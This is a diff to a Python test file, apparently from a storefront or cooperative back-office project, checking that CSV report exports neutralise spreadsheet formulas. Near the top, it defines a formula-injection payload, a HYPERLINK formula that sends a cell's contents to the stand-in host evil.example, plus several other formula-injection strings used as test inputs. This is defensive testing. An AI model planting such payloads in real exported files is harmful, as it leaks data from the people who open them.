@@ -3,7 +3,6 @@ spreadsheet would evaluate, and keeps identifiers (RIB, ICE) as text."""
 
 import csv
 import io
-from datetime import UTC, datetime
 
 import pytest
 from hypothesis import example, given
@@ -13,10 +12,10 @@ from sqlalchemy import select
 from catalog import csv_io, spreadsheet
 from catalog.db import utcnow
 from catalog.spreadsheet import Identifier
-from orders import fulfilment, ledger, payment_attempts, reports
+from orders import fulfilment, ledger, payment_attempts
 from orders.models import PayoutBatch
 from storefront.demo.identifiers import make_rib
-from tests.storefront.backoffice import login, operator
+from tests.storefront.backoffice import login, member, operator
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'
 FORMULAS = [HYPERLINK, "+33 cmd", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
@@ -107,9 +106,13 @@ def test_product_export_is_neutralised_and_imports_back(session, owed) -> None:
     assert plan.ok and plan.rows[0].title == "=1+1", "the apostrophe is not imported"
 
 
-def test_the_cooperative_reports_are_neutralised(session, owed) -> None:
-    year = (datetime(2000, 1, 1, tzinfo=UTC), datetime(2100, 1, 1, tzinfo=UTC))
-    parts = reports.delivered_parts(session, owed.id, start=year[0], end=year[1])
-    cells = _cells(reports.products_csv(reports.sales_by_product(parts)), ";")
-    _no_formula(cells)
-    assert cells[1][1] == "'=1+1"
+def test_the_cooperative_reports_are_neutralised(client, session, owed) -> None:
+    user = member(session, owed)
+    session.commit()
+    login(client, user)
+    for kind in ("products", "sales", "ledger"):
+        response = client.get(f"/back-office/reports/{kind}.csv?from=2000-01-01&to=2099-12-31")
+        cells = _cells(response.data.decode("utf-8-sig"))
+        _no_formula(cells)
+        if kind == "products":
+            assert cells[1][1] == "'=1+1"
